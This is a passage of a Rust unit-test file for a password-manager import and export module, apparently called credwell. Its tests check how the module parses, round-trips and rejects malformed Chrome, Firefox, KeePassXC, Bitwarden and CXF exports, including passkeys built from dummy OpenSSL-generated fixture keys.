                let a: Vec<_> = passkeys.iter().map(keys).collect();
                let b: Vec<_> = back.passkeys.iter().map(keys).collect();
                prop_assert_eq!(a, b, "{}", format);
            }
        }

        #[test]
        fn readers_never_panic_on_arbitrary_bytes(
            bytes in proptest::collection::vec(any::<u8>(), 0..300)
        ) {
            for format in Format::ALL {
                let _ = read(format, bytes.as_slice());
            }
        }

        #[test]
        fn readers_never_panic_on_near_valid_files(cut in 0_usize..2000, byte in any::<u8>()) {
            for (format, name) in [
                (Format::ChromeCsv, "chrome.csv"),
                (Format::FirefoxCsv, "firefox.csv"),
                (Format::KeepassxcCsv, "keepassxc.csv"),
                (Format::BitwardenJson, "bitwarden.json"),
                (Format::BitwardenCsv, "bitwarden.csv"),
                (Format::LastpassCsv, "lastpass.csv"),
                (Format::AppleCsv, "apple.csv"),
                (Format::OnepasswordCsv, "1password.csv"),
                (Format::ProtonCsv, "proton.csv"),
                (Format::Cxf, "cxf.json"),
                (Format::ProtonJson, "proton.json"),
            ] {
                let mut bytes = fixture(name);
                let at = cut % bytes.len();
                bytes[at] = byte;
                let _ = read(format, bytes.as_slice());
                bytes.truncate(at);
                let _ = read(format, bytes.as_slice());
            }
        }
    }
}

/// What survives a trip of a passkey through `format`: everything but its large blob, and its
/// `prf` secrets where the format has a place for them.
fn passkey_comparable(format: Format, p: &PasskeyRecord) -> String {
    let prf = p.prf.as_ref().filter(|_| format.carries_prf()).map(|prf| {
        (
            prf.expose_with_uv().to_vec(),
            prf.expose_without_uv().map(<[u8]>::to_vec),
        )
    });
    format!(
        "{} {:?} {:?} {:?} {:?} {} {:?} {} {prf:?}",
        p.rp_id,
        p.credential_id,
        p.user_handle,
        p.user_name,
        p.user_display_name,
        p.algorithm.cose_id(),
        p.private_key.expose_bytes(),
        p.created_at
    )
}

/// (rp, credential id, user handle, user name, display name, algorithm, private key) of each
/// passkey.
type PasskeyFields = (String, Vec<u8>, Vec<u8>, String, String, i64, Vec<u8>);

fn passkey_fields(parsed: &Parsed) -> Vec<PasskeyFields> {
    parsed
        .passkeys
        .iter()
        .map(|p| {
            (
                p.rp_id.clone(),
                p.credential_id.clone(),
                p.user_handle.clone(),
                p.user_name.clone(),
                p.user_display_name.clone(),
                p.algorithm.cose_id(),
                p.private_key.expose_bytes().to_vec(),
            )
        })
        .collect()
}

fn unhex(s: &str) -> Vec<u8> {
    (0..s.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&s[i..i + 2], 16).unwrap())
        .collect()
}

#[test]
fn cxf_json() {
    let parsed = parse(Format::Cxf, "cxf.json");
    assert_eq!(
        summary(&parsed),
        [row(
            14,
            "https://login.example.com",
            "alice, \"the\" admin",
            "pw1 ünïcödé"
        )]
    );
    assert_eq!(parsed.logins[0].name, "Example — sign in");
    assert_eq!(parsed.logins[0].created, Some(Timestamp(1_704_067_200_000)));
    assert_eq!(skipped(&parsed), [(65, SkipReason::NotALogin)]);
    // The keys were made by OpenSSL (`openssl genpkey`, then PKCS#8 DER); the scalars below
    // are what `openssl pkey -text` prints for them.
    assert_eq!(
        passkey_fields(&parsed),
        [
            (
                "example.com".into(),
                (0..16).collect(),
                b"user-alice".to_vec(),
                "alice@example.com".into(),
                "Alice Ünicode".into(),
                -7,
                unhex("bed369c262f3667259211393e1269fa1f633bf787bb91974fec3889cf23a9d5e"),
            ),
            (
                "other.example".into(),
                (16..32).collect(),
                b"bob".to_vec(),
                "bob".into(),
                String::new(),
                -8,
                unhex("6397582d0df34ec5c65e0c53cc3a3f1f1f6208aef42a083e18152b0585c02542"),
            ),
        ]
    );
    assert_eq!(parsed.passkeys[0].created_at, 1_704_153_600_000);
    let prf = parsed.passkeys[1].prf.as_ref().unwrap();
    assert_eq!(prf.expose_with_uv(), [1; 32]);
    assert_eq!(prf.expose_without_uv(), Some([2; 32].as_slice()));
    assert!(parsed.passkeys[0].prf.is_none());
    // The imported keys are usable: their public keys derive.
    for passkey in &parsed.passkeys {
        passkey.public_key_cose().unwrap();
    }
}

#[test]
fn cxf_passkeys_round_trip_with_their_keys() {
    let first = parse(Format::Cxf, "cxf.json");
    let mut written = Vec::new();
    write(Format::Cxf, &first.logins, &first.passkeys, &mut written).unwrap();
    let text = String::from_utf8(written.clone()).unwrap();
    assert!(text.contains("\"type\": \"passkey\""), "{text}");
    assert!(text.contains("\"hmac-sha256\""), "{text}");
    let second = read(Format::Cxf, written.as_slice()).unwrap();
    assert_eq!(passkey_fields(&second), passkey_fields(&first));
    assert_eq!(summary(&second).len(), 1);
    assert!(second.skipped.is_empty(), "{:?}", second.skipped);
    assert_eq!(
        second.passkeys[1].prf.as_ref().unwrap().expose_with_uv(),
        [1; 32]
    );
}

#[test]
fn cxf_refuses_other_major_versions_and_bad_passkeys() {
    let text = String::from_utf8(fixture("cxf.json")).unwrap();
    let v2 = text.replace("\"major\": 1", "\"major\": 2");
    let error = read(Format::Cxf, v2.as_bytes()).unwrap_err();
    assert!(
        error.reason.contains("version 2.0 is not supported"),
        "{error}"
    );
    // 73 bytes of user handle.
    let long_handle = format!("\"userHandle\": \"{}\"", "dXNlci1hbGljZQ".repeat(7));
    for (from, to, reason) in [
        (
            "\"credentialId\": \"AAECAwQFBgcICQoLDA0ODw\"",
            "\"credentialId\": \"\"",
            "credentialId is 0 bytes",
        ),
        (
            "\"userHandle\": \"dXNlci1hbGljZQ\"",
            long_handle.as_str(),
            "userHandle is 73 bytes",
        ),
        ("\"rpId\": \"example.com\"", "\"rpId\": \"\"", "no rpId"),
        (
            "\"credWithUV\": \"AQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQE\"",
            "\"credWithUV\": \"AQE\"",
            "32-byte",
        ),
        (
            "\"key\": \"MC4CAQAwBQYDK2VwBCIEIGOXWC0N807Fxl4MU8w6Px8fYgiu9CoIPhgVKwWFwCVC\"",
            "\"key\": \"AAECAwQF\"",
            "not a PKCS#8 private key",
        ),
        (
            "\"key\": \"MC4CAQAwBQYDK2VwBCIEIGOXWC0N807Fxl4MU8w6Px8fYgiu9CoIPhgVKwWFwCVC\"",
            "\"key\": \"not base64!\"",
            "credential 1 (\"passkey\") has a value that is not base64url",
        ),
    ] {
        assert!(text.contains(from), "{from}");
        let error = read(Format::Cxf, text.replace(from, to).as_bytes()).unwrap_err();
        assert!(error.reason.contains(reason), "{reason}: {error}");
        assert!(error.line.is_some_and(|l| l > 1), "{reason}: {error}");
    }
    // Valid passkeys credwell cannot hold are skipped, the rest of the file imported.
    for (from, to, reason) in [
        (
            "\"algorithm\": \"hmac-sha256\"",
            "\"algorithm\": \"hmac-sha512\"",
            "other than hmac-sha256",
        ),
        (
            "\"userHandle\": \"dXNlci1hbGljZQ\"",
            "\"userHandle\": \"\"",
            "no user handle",
        ),
    ] {
        let parsed = read(Format::Cxf, text.replace(from, to).as_bytes()).unwrap();
        assert_eq!(parsed.passkeys.len(), 1, "{reason}");
        assert_eq!(parsed.logins.len(), 1, "{reason}");
        assert!(
            parsed
                .skipped
                .iter()
                .any(|s| matches!(&s.reason, SkipReason::Unsupported(why) if why.contains(reason))),
            "{reason}: {:?}",
            parsed.skipped
        );
    }
}

/// A CXF `Account` without the exchange header (what the operating systems' credential-exchange
/// flows hand over), with Google's negative times and a passkey credwell cannot hold.
#[test]
fn cxf_bare_accounts_read_with_impossible_times_dropped_and_unsupported_passkeys_skipped() {
    let parsed = parse(Format::Cxf, "cxf_bare_account.json");
    assert_eq!(
        summary(&parsed),
        [row(
            8,
            "https://example.com",
            "alice",
            "pw from a bare account"
        )]
    );
    // A negative creationAt is dropped; a fractional modifiedAt is its whole seconds.
    assert_eq!(parsed.logins[0].created, None);
    assert_eq!(parsed.logins[0].updated, Some(Timestamp(1_735_689_600_000)));
    // The P-384 passkey is skipped, the P-256 one imported.
    assert_eq!(passkey_fields(&parsed).len(), 1);
    assert_eq!(parsed.passkeys[0].rp_id, "example.com");
    assert_eq!(
        skipped(&parsed),
        [(
            22,
            SkipReason::Unsupported(
                "the passkey's key is a P-384 key; credwell's passkeys are P-256 (ES256) or \
                 Ed25519 (EdDSA)"
                    .into()
            )
        )]
    );
    // A creationAt far past 9999 is dropped too: the passkey is dated at the import.
    assert_eq!(parsed.clamped_times, [8, 38]);
    assert!(parsed.passkeys[0].created_at > 1_764_000_000_000);
    // What credwell writes is read back, header and all.
    let mut written = Vec::new();
    write(Format::Cxf, &parsed.logins, &parsed.passkeys, &mut written).unwrap();
    let back = read(Format::Cxf, written.as_slice()).unwrap();
    assert_eq!(passkey_fields(&back), passkey_fields(&parsed));
    // Neither a header nor an account.
    let error = parse_err(Format::Cxf, "fail_cxf_not_cxf.json");
    assert_eq!(error.line, Some(1));
    assert!(
        error
            .reason
            .contains("neither the exchange header's \"accounts\" nor an account's"),
        "{error}"
    );
    for (text, reason) in [
        ("[1]", "not a JSON object"),
        ("{\"accounts\": {}}", "\"accounts\" is not a list"),
        ("{\"accounts\": []}", "no \"version\""),
        ("{\"version\": 1, \"accounts\": []}", "\"version\" is not"),
        (
            "{\"version\": {\"major\": 1, \"minor\": 0}, \"accounts\": [{}]}",
            "account 1 has no \"items\" list",
        ),
        (
            "{\"version\": {\"major\": 1, \"minor\": 0}, \"accounts\": [1]}",
            "account 1 is not a JSON object",
        ),
        (
            "{\"email\": \"\", \"items\": [1]}",
            "item 1 of account 1: it is not a JSON object",
        ),
        (
            "{\"email\": \"\", \"items\": [{\"id\": \"YQ\", \"title\": \"t\"}]}",
            "item YQ: it has no \"credentials\" list",
        ),
        (
            "{\"email\": \"\", \"items\": [{\"id\": \"YQ\", \"credentials\": []}]}",
            "item YQ: it has a missing field `title`",
        ),
        (
            "{\"email\": \"\", \"items\": [{\"id\": \"YQ\", \"title\": 5, \"credentials\": []}]}",
            "item YQ: it has a value of the wrong type",
        ),
    ] {
        let error = read(Format::Cxf, text.as_bytes()).unwrap_err();
        assert!(error.reason.contains(reason), "{text}: {error}");
        assert_eq!(error.line, Some(1), "{text}: {error}");
    }
}

#[test]
fn firefox_times_before_1970_are_dropped_with_a_note() {
    let text = "url,username,password,httpRealm,formActionOrigin,guid,timeCreated,timeLastUsed,\
                timePasswordChanged\nhttps://a.example,u,p,,https://a.example,,-1000,-1000,\
                1700000000000\nhttps://b.example,u,p,,https://b.example,,1,1,1\n";
    let parsed = read(Format::FirefoxCsv, text.as_bytes()).unwrap();
    assert_eq!(parsed.logins[0].created, None);
    assert_eq!(parsed.logins[0].updated, Some(Timestamp(1_700_000_000_000)));
    assert_eq!(parsed.logins[1].created, Some(Timestamp(1)));
    assert_eq!(parsed.clamped_times, [2]);
}

/// `timeLastUsed` is read, and checked as the other times are; it is written back, and not made
/// up from the creation time.
#[test]
fn firefox_time_last_used_is_read_checked_and_written_back() {
    let header = "url,username,password,httpRealm,formActionOrigin,guid,timeCreated,timeLastUsed,\
                  timePasswordChanged\n";
    let text = format!(
        "{header}https://a.example,u,p,,https://a.example,,1000,3000,2000\n\
         https://b.example,u,p,,https://b.example,,1000,-5,2000\n"
    );
    let parsed = read(Format::FirefoxCsv, text.as_bytes()).unwrap();
    let a = &parsed.logins[0];
    assert_eq!(
        (a.created, a.last_used, a.updated),
        (
            Some(Timestamp(1000)),
            Some(Timestamp(3000)),
            Some(Timestamp(2000))
        )
    );
    // Before 1970: dropped with a note, as a `timeCreated` before 1970 is.
    assert_eq!(parsed.logins[1].last_used, None);
    assert_eq!(parsed.clamped_times, [3]);
    // Not a number: the row is refused, naming the column, as for `timeCreated`.
    let bad = format!("{header}https://a.example,u,p,,https://a.example,,1000,soon,2000\n");
    let error = read(Format::FirefoxCsv, bad.as_bytes()).unwrap_err();
    assert_eq!(error.line, Some(2), "{error}");
    assert!(error.reason.contains("timeLastUsed"), "{error}");

    // Written back: the time of last use, else of the last change, else nothing.
    let back = read_again(Format::FirefoxCsv, &parsed.logins[..1]);
    assert_eq!(back.logins[0].last_used, Some(Timestamp(3000)));
    let mut login = parsed.logins[0].clone();
    login.last_used = None;
    let mut written = Vec::new();
    write(
        Format::FirefoxCsv,
        std::slice::from_ref(&login),
        &[],
        &mut written,
    )
    .unwrap();
    let back = read(Format::FirefoxCsv, written.as_slice()).unwrap();
    assert_eq!(back.logins[0].last_used, Some(Timestamp(2000)));
    login.updated = None;
    let mut written = Vec::new();
    write(
        Format::FirefoxCsv,
        std::slice::from_ref(&login),
        &[],
        &mut written,
    )
    .unwrap();
    let back = read(Format::FirefoxCsv, written.as_slice()).unwrap();
    assert_eq!(back.logins[0].last_used, None);
    assert_eq!(back.logins[0].created, Some(Timestamp(1000)));
}

/// KeePassXC's times that cannot be used are dropped with the import's "times dropped" note
/// (not silently); one with an offset is read.
#[test]
fn keepassxc_bad_times_are_dropped_with_a_note_and_offsets_are_read() {
    let text = "\"Group\",\"Title\",\"Username\",\"Password\",\"URL\",\"Notes\",\"TOTP\",\"Icon\",\
                \"Last Modified\",\"Created\"\n\
                Root,A,u,p,https://a.example,,,0,2024-01-02T05:04:05+02:00,\
                2024-01-01T22:04:05-05:00\n\
                Root,B,u,p,https://b.example,,,0,soon,1969-12-31T23:00:00Z\n\
                Root,C,u,p,https://c.example,,,0,2024-01-02T03:04:05Z+01:00,\n\
                Root,D,u,p,https://d.example,,,0,2024-01-02T03:04:05Z,\n";
    let parsed = read(Format::KeepassxcCsv, text.as_bytes()).unwrap();
    let times: Vec<_> = (parsed.logins.iter())
        .map(|l| (l.updated.map(|t| t.0), l.created.map(|t| t.0)))
        .collect();
    // 2024-01-02T03:04:05Z is 1_704_164_645_000.
    assert_eq!(
        times,
        [
            (Some(1_704_164_645_000), Some(1_704_164_645_000)),
            (None, None),
            (None, None),
            (Some(1_704_164_645_000), None),
        ]
    );
    // Once per row, whichever of its times was dropped.
    assert_eq!(parsed.clamped_times, [3, 4]);
}

/// A `passwordHistory` date that cannot be used is dropped with the import's note, the item's
/// last revision standing in for it.
#[test]
fn bitwarden_bad_password_history_dates_are_dropped_with_a_note() {
    let text = r#"{"encrypted": false, "items": [
        {"type": 1, "name": "A", "revisionDate": "2026-03-01T00:00:00.000Z",
         "login": {"uris": [{"uri": "https://a.example"}], "username": "u", "password": "p"},
         "passwordHistory": [{"lastUsedDate": "yesterday", "password": "old-1"},
                             {"lastUsedDate": "2025-01-01T00:00:00Z", "password": "old-2"}]},
        {"type": 1, "name": "B",
         "login": {"uris": [{"uri": "https://b.example"}], "username": "u", "password": "p"},
         "passwordHistory": [{"lastUsedDate": "2025-01-01T02:00:00+02:00", "password": "old"}]}
    ]}"#;
    let parsed = read(Format::BitwardenJson, text.as_bytes()).unwrap();
    let history: Vec<_> = (parsed.logins[0].history.iter())
        .map(|h| (h.password.expose(), h.replaced.to_iso8601()))
        .collect();
    assert_eq!(
        history,
        [
            ("old-2", "2025-01-01T00:00:00.000Z".to_owned()),
            ("old-1", "2026-03-01T00:00:00.000Z".to_owned()),
        ]
    );
    assert_eq!(
        parsed.logins[1].history[0].replaced.to_iso8601(),
        "2025-01-01T00:00:00.000Z"
    );
    assert_eq!(parsed.clamped_times, [2]);
}

/// An organisation's Bitwarden JSON names collections in place of folders: a login is filed in
/// its own folder, else its first collection (as Bitwarden's CSV writes it), and an item in
/// more than one is said to have left the others out.
#[test]
fn bitwarden_json_collections_are_folders_as_in_its_csv() {
    let text = r#"{"encrypted": false,
      "folders": [{"id": "f", "name": "Mine"}],
      "collections": [{"id": "c1", "organizationId": "o", "name": "Finance", "externalId": null},
                      {"id": "c2", "organizationId": "o", "name": "Shared", "externalId": null}],
      "items": [
        {"type": 1, "name": "A", "collectionIds": ["c1"], "folderId": null,
         "login": {"uris": [{"uri": "https://a.example"}], "username": "u", "password": "p"}},
        {"type": 1, "name": "B", "collectionIds": ["c2", "c1"],
         "login": {"uris": [{"uri": "https://b.example"}], "username": "u", "password": "p"}},
        {"type": 1, "name": "C", "folderId": "f", "collectionIds": ["c1"],
         "login": {"uris": [{"uri": "https://c.example"}], "username": "u", "password": "p"}},
        {"type": 1, "name": "D", "collectionIds": ["unknown"],
         "login": {"uris": [{"uri": "https://d.example"}], "username": "u", "password": "p"}}
    ]}"#;
    let parsed = read(Format::BitwardenJson, text.as_bytes()).unwrap();
    let folders: Vec<_> = (parsed.logins.iter())
        .map(|l| (l.name.as_str(), l.extras.folder.as_str()))
        .collect();
    assert_eq!(
        folders,
        [("A", "Finance"), ("B", "Shared"), ("C", "Mine"), ("D", "")]
    );
    let unstored: Vec<_> = (parsed.unstored.iter()).map(|(kind, _)| *kind).collect();
    assert_eq!(unstored, [Unstored::Folders, Unstored::Folders], "B and C");
}

/// CXF's collections are folders (a sub-collection's `Parent/Child`; an item in several is in
/// the first, the others reported) and its tags a `Tags` field, whichever way the file is read;
/// the export writes the folder back as nested collections.
#[test]
fn cxf_collections_are_folders_and_tags_a_field() {
    let collections = r#""collections": [
        {"id": "Y29sLTE", "title": "Finance", "items": [],
         "subCollections": [{"id": "Y29sLTI", "title": "Banks",
                             "items": [{"item": "aXRlbS1sb2dpbg"}]}]},
        {"id": "Y29sLTM", "title": "Shared", "items": [{"item": "aXRlbS1sb2dpbg"}]}
      ],"#;
    let text = String::from_utf8(fixture("cxf.json"))
        .unwrap()
        .replace("\"collections\": [],", collections)
        .replace(
            "\"title\": \"Example — sign in\",",
            "\"title\": \"Example — sign in\", \"tags\": [\"work\", \"2fa\"],",
        );
    // A header's negative timestamp makes the reader go item by item.
    let forced = text.replace("\"timestamp\": 1735689600", "\"timestamp\": -1");
    for text in [&text, &forced] {
        let parsed = read(Format::Cxf, text.as_bytes()).unwrap();
        let login = &parsed.logins[0];
        assert_eq!(login.extras.folder, "Finance/Banks");
        assert_eq!(fields(login), [field("Tags", "work, 2fa", false)]);
        assert_eq!(parsed.unstored, [(Unstored::Folders, 14)]);
    }
    let mut logins = read(Format::Cxf, text.as_bytes()).unwrap().logins;
    logins.push(logins[0].clone());
    logins[1].extras.folder = "Finance".into();
    let mut written = Vec::new();
    write(Format::Cxf, &logins, &[], &mut written).unwrap();
    let json: serde_json::Value = serde_json::from_slice(&written).unwrap();
    let finance = &json["accounts"][0]["collections"][0];
    assert_eq!(finance["title"], "Finance");
    assert_eq!(finance["subCollections"][0]["title"], "Banks");
    let ids = &json["accounts"][0]["items"];
    assert_eq!(
        finance["subCollections"][0]["items"][0]["item"],
        ids[0]["id"]
    );
    assert_eq!(finance["items"][0]["item"], ids[1]["id"]);
    let back = read(Format::Cxf, written.as_slice()).unwrap();
    let folders: Vec<_> = back
        .logins
        .iter()
        .map(|l| l.extras.folder.as_str())
        .collect();
    assert_eq!(folders, ["Finance/Banks", "Finance"]);
    assert!(back.unstored.is_empty(), "{:?}", back.unstored);
}

fn parse_err(format: Format, name: &str) -> FormatError {
    read(format, fixture(name).as_slice()).unwrap_err()
}

#[test]
fn bitwarden_passkeys_are_read_with_their_logins() {
    let parsed = parse(Format::BitwardenJson, "bitwarden_passkeys.json");
    assert_eq!(
        summary(&parsed),
        [
            row(
                5,
                "https://example.com",
                "alice",
                "pw with a passkey beside it"
            ),
            row(59, "https://p384.example", "carol", "carol-pw"),
        ]
    );
    assert_eq!(
        passkey_fields(&parsed),
        [
            (
                "example.com".into(),
                unhex("08d70b74e9f54522a425e5dcd40107e7"),
                b"user-alice".to_vec(),
                "alice@example.com".into(),
                "Alice Ünicode".into(),
                -7,
                unhex("bed369c262f3667259211393e1269fa1f633bf787bb91974fec3889cf23a9d5e"),
            ),
            (
                "other.example".into(),
                (16..32).collect(),
                b"bob".to_vec(),
                "bob".into(),
                String::new(),
                -7,
                // `openssl pkey -text` of the key (written in standard base64 in the file).
                unhex("31fa8dc906f056acfe0dfa7761fbbe86aad88395a88423ff5ad29efbc5e96a51"),
            ),
        ]
    );
    // The passkey's own creationDate, else its item's.
    assert_eq!(parsed.passkeys[0].created_at, 1_704_240_000_000);
    assert_eq!(parsed.passkeys[1].created_at, 1_706_745_600_000);
    for passkey in &parsed.passkeys {
        passkey.public_key_cose().unwrap();
    }
    let why = |s: &Skipped| match &s.reason {
        SkipReason::Unsupported(why) => (s.line, why.clone()),
        other => panic!("{other:?}"),
    };
    let skips: Vec<_> = parsed.skipped.iter().map(why).collect();
    assert_eq!(skips.len(), 2, "{skips:?}");
    assert_eq!(skips[0].0, 59);
    assert!(skips[0].1.contains("P-384"), "{skips:?}");
    assert_eq!(skips[1].0, 83);
    assert!(skips[1].1.contains("no user handle"), "{skips:?}");
    // bob's counter was 7; dave's item's creationDate is year 1.
    assert_eq!(parsed.passkey_counters, [34]);
    assert_eq!(parsed.clamped_times, [83]);
}

/// Every way a Bitwarden passkey can break its format names the item, the passkey and the field.
#[test]
fn malformed_bitwarden_passkeys_are_refused_with_their_item_and_field() {
    let text = String::from_utf8(fixture("bitwarden_passkeys.json")).unwrap();
    let id = "\"credentialId\": \"08d70b74-e9f5-4522-a425-e5dcd40107e7\",";
    let key_start = "\"keyValue\": \"MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQgvtNp";
    for (from, to, reason) in [
        (id, "", "the passkey has no credentialId"),
        (
            key_start,
            "\"keyValue\": \"!!\", \"x\": \"",
            "keyValue is not base64",
        ),
        (key_start, "\"x\": \"", "the passkey has no keyValue"),
        (
            "\"userHandle\": \"dXNlci1hbGljZQ\"",
            "\"userHandle\": \"@@\"",
            "userHandle is not base64",
        ),
        (
            "\"counter\": \"0\"",
            "\"counter\": \"many\"",
            "counter is not a whole number",
        ),
        (
            "\"counter\": \"0\"",
            "\"counter\": true",
            "counter is not a whole number",
        ),
        (
            "\"rpId\": \"example.com\"",
            "\"rpId\": \" \"",
            "the passkey has no rpId",
        ),
    ] {
        assert!(text.contains(from), "{from}");
        let broken = text.replacen(from, to, 1);
        let error = read(Format::BitwardenJson, broken.as_bytes()).unwrap_err();
        assert_eq!(error.line, Some(5), "{reason}: {error}");
        assert!(
            error.reason.starts_with("item 1, passkey 1: ") && error.reason.contains(reason),
            "{reason}: {error}"
        );
    }
    // A counter that is blank or null is 0; one given as a number is read as one.
    for counter in ["\"counter\": \"\"", "\"counter\": null", "\"counter\": 0"] {
        let parsed = read(
            Format::BitwardenJson,
            text.replacen("\"counter\": \"0\"", counter, 1).as_bytes(),
        )
        .unwrap();
        assert_eq!(parsed.passkey_counters, [34], "{counter}");
    }
}

#[test]
fn bitwarden_passkeys_round_trip_in_bitwardens_shape() {
    let first = parse(Format::BitwardenJson, "bitwarden_passkeys.json");
    let mut written = Vec::new();
    write(
        Format::BitwardenJson,
        &first.logins,
        &first.passkeys,
        &mut written,
    )
    .unwrap();
    let second = read(Format::BitwardenJson, written.as_slice()).unwrap();
    assert_eq!(passkey_fields(&second), passkey_fields(&first));
    assert_eq!(summary(&second).len(), 2);
    assert!(second.skipped.is_empty(), "{:?}", second.skipped);
    let json: serde_json::Value = serde_json::from_slice(&written).unwrap();
    // Each passkey is a login item of its own, without a password.
    let item = &json["items"][2];
    assert_eq!(item["type"], 1);
    assert_eq!(item["login"]["password"], serde_json::Value::Null);
    assert_eq!(item["login"]["username"], "alice@example.com");
    assert_eq!(item["login"]["uris"][0]["uri"], "https://example.com");
    let fido2 = &item["login"]["fido2Credentials"][0];
    assert_eq!(
        fido2["credentialId"],
        "08d70b74-e9f5-4522-a425-e5dcd40107e7"
    );
    assert_eq!(fido2["keyType"], "public-key");
    assert_eq!(fido2["keyAlgorithm"], "ECDSA");
    assert_eq!(fido2["keyCurve"], "P-256");
    assert_eq!(fido2["rpId"], "example.com");
    assert_eq!(fido2["userHandle"], "dXNlci1hbGljZQ");
    assert_eq!(fido2["counter"], "0");
    assert_eq!(fido2["discoverable"], "true");
    assert_eq!(fido2["creationDate"], "2024-01-03T00:00:00.000Z");
    // The key as the CXF fixture carries it: PKCS#8 DER, base64url.
    let cxf = String::from_utf8(fixture("cxf.json")).unwrap();
    assert!(cxf.contains(fido2["keyValue"].as_str().unwrap()));
    assert_eq!(
        json["items"][3]["login"]["fido2Credentials"][0]["credentialId"],
        "b64.EBESExQVFhcYGRobHB0eHw"
    );
}

/// A file over the cap is refused with a clear error rather than read into
/// memory whole.
#[test]
fn files_over_the_size_cap_are_refused() {
    const MIB: u64 = 1024 * 1024;
    let error = read_at_most(std::io::repeat(b' ').take(2 * MIB + 1), 2 * MIB).unwrap_err();
    assert_eq!(error.line, None);
    assert_eq!(
        error.reason,
        "the file is larger than 2 MiB, the most credwell imports"
    );
    assert_eq!(
        read_at_most(std::io::repeat(b' ').take(2 * MIB), 2 * MIB)
            .unwrap()
            .len() as u64,
        2 * MIB
    );
    assert_eq!(MAX_INPUT_BYTES, 256 * MIB);
}

#[test]
fn json_that_is_not_utf8_is_refused_with_its_line() {
    for format in [Format::BitwardenJson, Format::Cxf] {
        let error = read(format, b"{\n\"items\": [\"\xff\"]}".as_slice()).unwrap_err();
        assert_eq!(error.line, Some(2), "{format}: {error}");
        assert!(error.reason.contains("not UTF-8"), "{format}: {error}");
    }
}

/// Each CXF item's line is where its id is, also with thousands of items (found in one pass).
#[test]
fn cxf_items_are_found_on_their_lines() {
    let logins: Vec<ImportedLogin> = (0..3000)
        .map(|i| {
            ImportedLogin::new(
                Origin::parse(&format!("https://site{i}.example")).unwrap(),
                "u",
                Password::new(format!("pw{i}")),
            )
        })
        .collect();
    let mut written = Vec::new();
    write(Format::Cxf, &logins, &[], &mut written).unwrap();
    let text = String::from_utf8(written).unwrap();
    let parsed = read(Format::Cxf, text.as_bytes()).unwrap();
    assert_eq!(parsed.logins.len(), 3000);
    let id_lines: Vec<u64> = text
        .lines()
        .zip(1..)
        .filter(|(l, _)| l.trim_start().starts_with("\"id\": \"bG9naW4"))
        .map(|(_, n)| n)
        .collect();
    let got: Vec<u64> = parsed.logins.iter().map(|l| l.line).collect();
    assert_eq!(got, id_lines);
}

#[test]
fn urls_without_a_scheme_read_as_https_in_every_format() {
    for (format, name) in [
        (Format::ChromeCsv, "schemeless_chrome.csv"),
        (Format::FirefoxCsv, "schemeless_firefox.csv"),
        (Format::KeepassxcCsv, "schemeless_keepassxc.csv"),
        (Format::BitwardenJson, "schemeless_bitwarden.json"),
        (Format::Cxf, "schemeless_cxf.json"),
        (Format::BitwardenCsv, "schemeless_bitwarden.csv"),
        (Format::LastpassCsv, "schemeless_lastpass.csv"),
        (Format::AppleCsv, "schemeless_apple.csv"),
        (Format::OnepasswordCsv, "schemeless_1password.csv"),
        (Format::ProtonCsv, "schemeless_proton.csv"),
        (Format::ProtonJson, "schemeless_proton.json"),
    ] {
        let parsed = parse(format, name);
        assert!(parsed.skipped.is_empty(), "{name}: {:?}", parsed.skipped);
        let origins: Vec<String> = parsed.logins.iter().map(|l| l.origin.to_string()).collect();
        assert_eq!(
            origins,
            ["https://github.com", "https://adobe.com"],
            "{name}"
        );
        // The file's text is kept as it was written.
        assert_eq!(parsed.logins[0].url, "github.com", "{name}");
    }
}

#[test]
fn malformed_urls_are_refused_with_their_line_and_field() {
    for (name, line, field) in [
        ("fail_chrome_malformed_url.csv", 3, "the \"url\" column"),
        ("fail_firefox_malformed_url.csv", 2, "the \"url\" column"),
        ("fail_keepassxc_malformed_url.csv", 3, "the \"URL\" column"),
        (
            "fail_bitwarden_malformed_uri.json",
            5,
            "the \"uri\" 2 of item 2",
        ),
        (
            "fail_cxf_malformed_url.json",
            18,
            "the scope URL 1 of item aXRlbS0y",
        ),
    ] {
        let error = read(format_of(name), fixture(name).as_slice()).unwrap_err();
        assert_eq!(error.line, Some(line), "{name}: {error}");
        assert!(
            error.reason.starts_with(field) && error.reason.contains("not a usable URL"),
            "{name}: {error}"
        );
        // Never the invented site, nor the text of the URL.
        assert!(!error.reason.contains("bank.com"), "{name}: {error}");
    }
}

#[test]
fn a_file_of_another_format_is_refused_with_the_right_name() {
    let own = [
        (Format::ChromeCsv, "chrome.csv"),
        (Format::FirefoxCsv, "firefox.csv"),
        (Format::KeepassxcCsv, "keepassxc.csv"),
        (Format::BitwardenJson, "bitwarden.json"),
        (Format::Cxf, "cxf.json"),
        (Format::BitwardenCsv, "bitwarden.csv"),
        (Format::LastpassCsv, "lastpass.csv"),
        (Format::AppleCsv, "apple.csv"),
        (Format::OnepasswordCsv, "1password.csv"),
        (Format::ProtonCsv, "proton.csv"),
    ];
    for (actual, name) in own {
        for asked in Format::ALL {
            let result = read(asked, fixture(name).as_slice());
            if asked == actual {
                assert!(result.is_ok(), "{name} as {asked}");
                continue;
            }
            let error = result
                .err()
                .unwrap_or_else(|| panic!("{name} read as {asked}"));
            assert_eq!(error.line, Some(1), "{name} as {asked}: {error}");
            assert!(
                error.reason.contains(&format!("not a {asked} file"))
                    && error
                        .reason
                        .contains(&format!("`credwell import {actual} FILE`")),
                "{name} as {asked}: {error}"
            );
        }
    }
    // What credwell does not read is named, whatever format it is given as.
    for (bytes, says) in [
        (b"PK\x03\x04 rest".as_slice(), "a zip archive"),
        (
            &[0x03, 0xd9, 0xa2, 0x9a, 0x65, 0xfb, 0x4b, 0xb5, 0],
            "a KeePass 1 database (.kdb)",
        ),
    ] {
        for asked in Format::ALL {
            let error = read(asked, bytes).unwrap_err();
            assert!(error.reason.contains(says), "{says} as {asked}: {error}");
        }
    }
}

#[test]
fn keepassxc_recycle_bins_in_any_language_are_skipped_and_lookalikes_flagged() {
    let parsed = parse(Format::KeepassxcCsv, "keepassxc_recycle_bins.csv");
    assert_eq!(
        skipped(&parsed),
        [
            (2, SkipReason::InRecycleBin),
            (3, SkipReason::InRecycleBin),
            (4, SkipReason::InRecycleBin),
        ]
    );
    let users: Vec<&str> = parsed.logins.iter().map(|l| l.username.as_str()).collect();
    assert_eq!(users, ["bob", "bob", "carol"]);
    assert_eq!(parsed.maybe_recycle_bin, [5, 6]);
    // carol's entry: its times, and what credwell does not store.
